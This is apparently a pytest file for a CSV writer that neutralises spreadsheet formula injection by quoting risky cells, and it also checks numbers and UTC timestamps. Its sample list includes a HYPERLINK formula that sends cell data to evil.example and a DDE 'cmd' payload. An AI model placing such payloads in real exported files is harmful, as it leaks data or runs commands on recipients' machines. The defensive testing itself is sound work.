"""CSV: a text of a stranger is a text in every spreadsheet, and a number is a number."""

from __future__ import annotations

import csv
import re
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from worker.cli.terminal.sheet import Cell, csv_lines

ROOT = Path(__file__).parents[2]
FORMULAS = [
    "=1+1", '=HYPERLINK("http://evil.example?"&A1,"ok")', "+1", "-1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1",
    "\r=1", "\n=1", "\tx", "\rx", " =1", "\xa0=1", "\u3000@x", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20x", "--", "=",
]  # fmt: skip
PLAIN = ["", "a=1", "wallet:w1", "Анна", "1", "a\nb", 'say "a, b"', "'=1", "a\t=1"]


def test_no_other_module_of_ours_writes_csv() -> None:
    files = [path for folder in ("models", "tasks", "worker") for path in (ROOT / folder).rglob("*.py")]
    writing = [path.name for path in files if re.search(r"^\s*(import csv|from csv)\b", path.read_text(), re.MULTILINE)]
    assert writing == ["sheet.py"], "use worker/cli/terminal/sheet.py: a text would be a formula"


def _read(*cells: Cell) -> list[str]:
    [names, row] = csv.reader([*csv_lines(["=name"] + ["x"] * (len(cells) - 1), [cells])])
    assert names[0] == "'=name"
    return row


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_be_a_formula_is_text(text: str) -> None:
    assert _read(text) == [f"'{text}"]


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_are_as_they_were(text: str) -> None:
    assert _read(text, "x") == [text, "x"]


def test_numbers_stay_numbers_with_every_digit_and_times_are_in_utc() -> None:
    at = datetime(2027, 1, 31, 12, tzinfo=UTC)
    assert _read(-5, Decimal("-12.50"), Decimal("1E+3"), at, None) == [
        "-5",
        "-12.50",
        "1000",
        "2027-01-31T12:00:00Z",
        "",
    ]
